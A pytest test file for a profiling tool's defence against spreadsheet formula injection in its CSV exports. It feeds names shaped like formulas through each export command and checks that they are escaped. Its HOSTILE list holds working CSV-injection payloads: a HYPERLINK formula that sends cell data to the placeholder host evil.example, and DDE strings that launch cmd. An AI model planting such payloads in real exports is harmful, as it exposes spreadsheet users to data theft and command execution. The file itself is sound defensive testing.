"""Spreadsheet formula injection through CSV (issue 19, item 5).

Names from a hostile module, capture or machine -- ``=HYPERLINK(...)``,
``+cmd|' /C calc'!A0``, ``@SUM(...)`` -- reach every CSV tracebridge writes:
``symbols``, ``symmap``, ``report``, ``diff``, ``cpu import`` and ``cpu
compare``.  Each must come out with a leading ``'`` (a spreadsheet then shows
it as text), numbers untouched, and ``--csv-raw`` must write them as they are.
The module is assembled by GNU ``as`` with quoted symbol names; the CSV is
read back with Python's csv module.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from tracebridge.cli import main
from tracebridge.cputime.series import read_series, write_series
from tracebridge.support.csvcells import neutral, restored

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0"]
TOP = Path(__file__).resolve().parents[1] / "data" / "top" / "top-bzSHCP-iperf.txt"


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def cells(table: list[dict[str, str]]) -> set[str]:
    return {value for row in table for value in row.values()}


def neutralised(table: list[dict[str, str]], names: list[str]) -> None:
    found = cells(table)
    for name in names:
        assert "'" + name in found and name not in found, name


@pytest.mark.parametrize("raw, written", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-12.5", "-12.5"), ("+1.5e3", "+1.5e3"), ("-", "'-"), ("@x", "'@x"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("'x", "'x"), ("plain", "plain"), ("", ""), (7, 7),
])
def test_cells_are_neutralised_and_restored(raw, written):
    assert neutral(raw) == written
    if isinstance(raw, str):
        assert restored(written) == raw


@pytest.fixture(scope="module")
def hostile_module(tmp_path_factory) -> Path:
    """Functions named like formulas, assembled by GNU as (quoted symbol names)."""
    if shutil.which("as") is None:
        pytest.skip("needs GNU as")
    directory = tmp_path_factory.mktemp("formulas")
    lines = [".text"]
    for name in HOSTILE:
        quoted = '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
        lines += [f".type {quoted},@function", f"{quoted}:", "push %rbp", "mov %rsp,%rbp", "pop %rbp", "ret",
                  f".size {quoted},.-{quoted}"]
    (directory / "formulas.s").write_text("\n".join(lines) + "\n")
    module = directory / "formulas.ko"
    subprocess.run(["as", "--64", "-o", str(module), str(directory / "formulas.s")], check=True)
    return module


def test_symbols_csv(hostile_module, capsys):
    assert main(["symbols", str(hostile_module), "--format", "csv"]) == 0
    table = rows(capsys.readouterr().out)
    neutralised(table, HOSTILE)
    assert all(row["offset"].isdigit() for row in table)
    assert main(["symbols", str(hostile_module), "--format", "csv", "--csv-raw"]) == 0
    assert {row["name"] for row in rows(capsys.readouterr().out)} == set(HOSTILE)


def test_symmap_csv(hostile_module, capsys):
    assert main(["symmap", str(hostile_module), "--base", "formulas.ko=0xffffffff82a00000", "--format", "csv"]) == 0
    neutralised(rows(capsys.readouterr().out), HOSTILE)
    assert main(["symmap", str(hostile_module), "--base", "formulas.ko=0xffffffff82a00000", "--format", "csv",
                 "--csv-raw"]) == 0
    assert set(HOSTILE) <= cells(rows(capsys.readouterr().out))


@pytest.fixture
def folded(tmp_path) -> tuple[Path, Path]:
    before, after = tmp_path / "before.folded", tmp_path / "after.folded"
    before.write_text("".join(f"root;{name} {i + 1}\n" for i, name in enumerate(HOSTILE)))
    after.write_text("".join(f"root;{name} {2 * i + 5}\n" for i, name in enumerate(HOSTILE)))
    return before, after


def test_report_csv(folded, capsys):
    assert main(["report", str(folded[0]), "--format", "csv"]) == 0
    table = rows(capsys.readouterr().out)
    neutralised(table, HOSTILE)
    assert main(["report", str(folded[0]), "--format", "csv", "--csv-raw"]) == 0
    assert set(HOSTILE) <= cells(rows(capsys.readouterr().out))


def test_diff_csv(folded, capsys):
    assert main(["diff", str(folded[0]), str(folded[1]), "--format", "csv", "--top", "0"]) == 0
    table = rows(capsys.readouterr().out)
    neutralised(table, HOSTILE)
    assert any(row["delta"].startswith("-") or row["delta"].isdigit() for row in table)  # numbers stay numbers
    assert main(["diff", str(folded[0]), str(folded[1]), "--format", "csv", "--top", "0", "--csv-raw"]) == 0
    assert set(HOSTILE) <= cells(rows(capsys.readouterr().out))


def test_cpu_import_and_compare(tmp_path, capsys):
    process, thread = "=HYPERLINK(1)", "@SUM(1)"
    capture = tmp_path / "top.txt"
    capture.write_text(TOP.read_text().replace("iperf3{iperf3}", f"{process}{{{thread}}}"))
    series = tmp_path / "run.csv"
    assert main(["cpu", "import", str(capture), "-o", str(series)]) == 0
    table = rows(series.read_text())
    neutralised(table, [process, thread])
    # Read back, the names are what top printed.
    frame = read_series(series)
    assert process in set(frame["process"]) and thread in set(frame["thread"])
    capsys.readouterr()
    assert main(["cpu", "compare", str(series), str(series), "--format", "csv", "--top", "0"]) == 0
    neutralised(rows(capsys.readouterr().out), [process, thread])
    raw = tmp_path / "raw.csv"
    assert main(["cpu", "import", str(capture), "-o", str(raw), "--csv-raw"]) == 0
    assert {process, thread} <= cells(rows(raw.read_text()))


def test_series_round_trip_is_exact(tmp_path):
    import pandas as pd

    names = ["=x", "'=x", "''=x", "-", "'-5", "-5", "plain", "'a"]
    frame = pd.DataFrame({"time": [0.0] * len(names), "pid": list(range(len(names))), "process": names,
                          "tid": [1] * len(names), "thread": names, "cpu_user": [1.0] * len(names),
                          "cpu_system": [0.0] * len(names), "cpu_percent": [1.0] * len(names)})
    write_series(frame, tmp_path / "s.csv")
    back = read_series(tmp_path / "s.csv")
    assert list(back["process"]) == names and list(back["thread"]) == names
